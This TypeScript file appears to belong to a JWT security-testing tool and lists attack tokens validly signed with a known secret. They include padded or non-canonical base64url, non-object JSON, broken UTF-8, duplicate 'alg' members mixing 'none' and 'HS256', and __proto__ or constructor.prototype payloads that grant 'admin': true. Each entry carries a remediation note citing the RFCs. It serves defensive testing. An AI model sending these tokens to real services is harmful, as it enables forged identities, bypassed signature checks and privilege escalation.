import type { Attack } from '../attack.ts';
import type { AttackSession } from '../attack-session.ts';
import { present } from '../carriers.ts';
import {
  type AttackDefaults,
  customAttacks,
  type SignedTokenAttack,
  secretNeeded,
  signedTokenAttacks,
} from '../define-attacks.ts';
import { forge, type Part, seal, segment } from '../forge.ts';
import { badToken, breach, judgeRefusal, showsUser } from '../judge-response.ts';
import { insertInto, looseTwin } from './spelling.ts';

const loose: AttackDefaults = {
  group: 'json',
  lesson: 4,
  advice:
    'Read a segment only where it is base64url to the letter, without padding, white space or unused bits (RFC 7515, 2; RFC 4648, 3.5).',
};

const object: AttackDefaults = {
  group: 'json',
  lesson: 4,
  advice:
    'Accept a JSON object in proper UTF-8 as header and as claims, and nothing else (RFC 7519, 7.2).',
};

const twice: AttackDefaults = {
  group: 'json',
  lesson: 4,
  advice: 'Refuse tokens that name a member twice, or __proto__ (RFC 7515, 4; RFC 7519, 4).',
};

/** Tokens with a valid signature that two readers would understand differently. */
export const json: Attack[] = [
  ...signedTokenAttacks(loose, [
    {
      id: 'claims-padded',
      name: 'claims with = behind them',
      gains: 'One set of claims has several texts, and a list of withdrawn tokens is passed.',
      token: withSegments((h, c) => [h, `${c}=`]),
    },
    {
      id: 'claims-space',
      name: 'claims with a space inside',
      gains: 'A strict reader in front refuses what this server believes, or the other way round.',
      token: withSegments((h, c) => [h, insertInto(c, ' ')]),
    },
    {
      id: 'claims-newline',
      name: 'claims with a newline inside',
      gains: 'A log shows two lines for one token.',
      token: withSegments((h, c) => [h, insertInto(c, '\n')]),
    },
    {
      id: 'claims-exclamation',
      name: 'claims with an exclamation mark inside',
      gains: 'What the decoder skips, another one ends at: two readers, two sets of claims.',
      token: withSegments((h, c) => [h, insertInto(c, '!')]),
    },
    {
      id: 'claims-base64',
      name: 'claims in standard base64',
      gains: 'Text with + and / means something else in an address and in a token.',
      token: ({ claims, header }, secret) => {
        const bytes = Buffer.from(JSON.stringify({ ...claims, a: '???>>>???>>>' }));
        return seal(segment(header), bytes.toString('base64'), secret);
      },
    },
    {
      id: 'claims-twin',
      name: 'claims with unused bits set',
      gains: 'One set of claims has several texts, all of them rightly signed.',
      token: ({ claims, header }, secret) => {
        // Base64url has unused bits only if the length is not a multiple of three.
        const texts = ['', 'x', 'xx'].map((filler) => segment({ ...claims, filler }));
        const text = texts.find(({ length }) => length % 4 !== 0) ?? '';
        return seal(segment(header), looseTwin(text), secret);
      },
    },
    {
      id: 'header-padded',
      name: 'a header with = behind it',
      gains: 'One header has several texts: a filter for some of them is passed.',
      token: withSegments((h, c) => [`${h}=`, c]),
    },
    {
      id: 'header-empty',
      name: 'an empty header',
      gains: 'A token that names no algorithm is checked by one all the same.',
      token: withSegments((_, c) => ['', c]),
    },
    {
      id: 'claims-empty',
      name: 'empty claims',
      gains: 'A token that says nothing is nobody’s, and still a token.',
      token: withSegments((h) => [h, '']),
    },
  ]),

  ...signedTokenAttacks(object, [
    ...['null', '5', '"x"', '[]', '[{"alg":"HS256"}]', '{alg:"HS256"}', '{} {}'].map(
      (header, n): SignedTokenAttack => ({
        id: `header-json-${n + 1}`,
        name: `header ${header}`,
        gains: `A header of ${header} names no algorithm, and none is asked for.`,
        token: ({ claims }, secret) => forge(claims, secret, { header }),
      }),
    ),
    ...['null', '5', 'true', 'false', '"x"', '""', '[]', '[{"sub":"1"}]', 'sub=1', '{"a":1,}'].map(
      (claims, n): SignedTokenAttack => ({
        id: `claims-json-${n + 1}`,
        name: `claims ${claims}`,
        gains: `Claims of ${claims} become a TypeError and a 500, or a user that nobody knows.`,
        token: ({ header }, secret) => forge(claims, secret, { header }),
      }),
    ),
    {
      id: 'claims-broken-utf8',
      name: 'claims in broken UTF-8',
      gains: 'Bytes that are no text are replaced: two different names become one.',
      token: withJson((json) => withBytes(json, [0xff])),
    },
    {
      id: 'claims-overlong-utf8',
      name: 'claims with an overlong slash',
      gains: 'A filter for slashes is passed by one in two bytes.',
      token: withJson((json) => withBytes(json, [0xc0, 0xaf])),
    },
    {
      id: 'claims-utf16',
      name: 'claims in UTF-16',
      gains: 'What looks empty to one reader is full of claims to another.',
      token: withJson((json) => Buffer.from(json, 'utf16le')),
    },
    {
      id: 'claims-bom',
      name: 'claims after a byte order mark',
      gains: 'One set of claims has two texts, and some readers see none.',
      token: withJson((json) => `\ufeff${json}`),
    },
  ]),

  ...signedTokenAttacks(twice, [
    {
      id: 'alg-twice-none-first',
      name: 'alg twice: none, then HS256',
      gains: 'A reader that takes the first checks nothing.',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: '{"alg":"none","alg":"HS256"}' }),
    },
    {
      id: 'alg-twice-none-last',
      name: 'alg twice: HS256, then none',
      gains: 'A reader that takes the last checks nothing.',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: '{"alg":"HS256","alg":"none"}' }),
    },
    {
      id: 'alg-twice-escaped',
      name: 'alg twice, once in escapes',
      gains: 'A filter that compares texts sees one alg where the parser sees two.',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: '{"\\u0061lg":"none","alg":"HS256"}' }),
    },
    {
      id: 'user-twice',
      name: 'the claim that names the user, twice',
      gains: 'One service sees one user and the next sees another.',
      token: (session, secret) =>
        withJson((json) => json.replace('{', `{"${session.subject}":"1",`))(session, secret),
    },
    {
      id: 'sub-twice-escaped',
      name: 'sub twice, once in escapes',
      gains: 'A filter that compares texts sees one user, the parser the other.',
      token: withJson((json) => json.replace('{', '{"sub":"1","\\u0073ub":"2",')),
    },
    {
      id: 'exp-twice',
      name: 'exp twice, the second in the year 5138',
      gains: 'One reader sees an expired token where another sees one for ever.',
      token: withJson((json) => json.replace(/}$/, ',"exp":99999999999}')),
    },
    {
      id: 'member-twice-deep',
      name: 'a member twice, further down',
      gains: 'Two readers see two different values, in a place where nobody looks.',
      token: withJson((json) => json.replace('{', '{"a":[{"b":1,"b":2}],')),
    },
    {
      id: 'proto',
      name: 'a member named __proto__',
      gains: 'Copied by assignment, the claims inherit "admin": true.',
      token: withJson((json) => json.replace('{', '{"__proto__":{"admin":true},')),
    },
    {
      id: 'proto-escaped',
      name: 'a member named __proto__, in escapes',
      gains: 'A filter that compares texts does not see the name, the parser does.',
      token: withJson((json) => json.replace('{', '{"__pro\\u0074o__":{"admin":true},')),
    },
    {
      id: 'proto-deep',
      name: 'a member named __proto__, further down',
      gains: 'A deep copy of the claims changes the prototype of an object, or of all.',
      token: withJson((json) => json.replace('{', '{"a":{"__proto__":{"admin":true}},')),
    },
  ]),

  ...customAttacks(twice, [
    {
      id: 'constructor-prototype',
      name: 'claims that name constructor.prototype',
      gains: 'Merged into an object, the claims make everybody an administrator.',
      needs: 'secret',
      run: async (session) => {
        const { claims, header, secret, username, token } = session;
        if (secret === undefined) return secretNeeded;
        const odd = { ...claims, constructor: { prototype: { admin: true } } };
        const response = await present(session, forge(odd, secret, { header }));
        if (response && !showsUser(response, username)) return judgeRefusal(response, badToken);
        const later = (await present(session, token)) ?? response;
        if (!later?.text.includes('"admin"')) return { held: true };
        return breach(later, 'a user without "admin"', true);
      },
    },
  ]),
];

function withSegments(write: (header: string, claims: string) => [string, string]) {
  return ({ header, claims }: AttackSession, secret: string) =>
    seal(...write(segment(header), segment(claims)), secret);
}

function withJson(spell: (json: string) => Part) {
  return ({ header, claims }: AttackSession, secret: string) =>
    forge(spell(JSON.stringify(claims)), secret, { header });
}

function withBytes(json: string, bytes: number[]): Uint8Array {
  const before = Buffer.from(`${json.slice(0, -1)},"a":"`);
  return Buffer.concat([before, Buffer.from(bytes), Buffer.from('"}')]);
}
